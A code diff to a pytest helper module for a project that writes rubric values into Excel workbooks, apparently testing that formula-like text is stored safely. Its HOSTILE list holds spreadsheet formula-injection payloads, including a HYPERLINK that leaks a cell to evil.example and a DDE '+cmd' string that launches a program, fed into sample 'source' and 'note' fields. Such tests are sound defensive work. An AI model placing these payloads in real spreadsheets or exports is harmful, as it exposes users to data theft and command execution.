@@ -5,6 +5,7 @@ Imported by module name (pytest puts this folder on sys.path), fixtures via conf
 
 from __future__ import annotations
 
+import math
 import re
 import zipfile
 from collections.abc import Callable
@@ -15,9 +16,12 @@ from typing import Any
 import openpyxl
 import pytest
 
+from readiness.inputs.values import Values, make_table
 from readiness.rubric import load_rubric
 from readiness.rubric.model import Rubric
+from readiness.workbook import layout as L
 from readiness.workbook import validate_workbook, write_template
+from readiness.workbook.raw import open_workbook
 from readiness.workbook.validate import WorkbookReport
 
 HERE = Path(__file__).parent
@@ -50,8 +54,9 @@ def rubric() -> Rubric:
     return load_rubric(HERE / "rubric.yaml")
 
 
-@pytest.fixture
-def template(tmp_path: Path, rubric: Rubric) -> Path:
+@pytest.fixture(name="template")
+def template_workbook(tmp_path: Path, rubric: Rubric) -> Path:
+    """The template of the small rubric (fixture `template`)."""
     path = tmp_path / "template.xlsx"
     write_template(rubric, PERIOD, path)
     return path
@@ -114,3 +119,40 @@ def rewrite_sheet_xml(src: Path, dest: Path, sheet: str, change: Callable[[bytes
                 if info.filename == part:
                     data = change(data)
                 zout.writestr(info, data)
+
+
+# Text that a spreadsheet would run as a formula if it were written as one.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "=1+1",
+]
+
+
+def values_sheet_xml(path: Path) -> str:
+    with open_workbook(path) as book:
+        part = book.sheet_paths[L.VALUES]
+    with zipfile.ZipFile(path) as z:
+        return z.read(part).decode("utf-8")
+
+
+def sample_values(rubric: Rubric) -> Values:
+    rows: list[dict[str, object]] = []
+    for k, (unit, indicator) in enumerate(ROWS):
+        value: float = {"rule_of_law": 50.0 + k, "mining_code": 3.0, "fdi_inflows": 2.5}.get(
+            indicator, 0.0
+        )
+        rows.append(
+            {
+                "unit": unit,
+                "indicator": indicator,
+                "value": math.nan if (unit, indicator) == ("UZB", "fdi_inflows") else value,
+                "as_of": "2025" if indicator == "rule_of_law" else "2026-06-30",
+                "source": HOSTILE[k % len(HOSTILE)],
+                "source_url": "https://example.org/source",
+                "note": HOSTILE[(k + 1) % len(HOSTILE)],
+            }
+        )
+    return Values(table=make_table(rows), period=PERIOD)
